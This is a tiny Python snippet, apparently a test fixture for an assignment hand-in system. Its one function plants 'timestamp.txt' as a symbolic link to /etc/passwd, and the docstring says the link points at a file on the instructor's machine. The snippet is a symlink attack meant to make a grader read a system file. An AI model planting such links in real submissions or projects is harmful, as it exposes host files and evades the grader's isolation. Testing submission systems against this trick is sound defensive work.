"""Let the time of handing in be a link to a file of the instructor's machine."""


def hand_in(folder, page, classmate):
    (folder / "timestamp.txt").symlink_to("/etc/passwd")
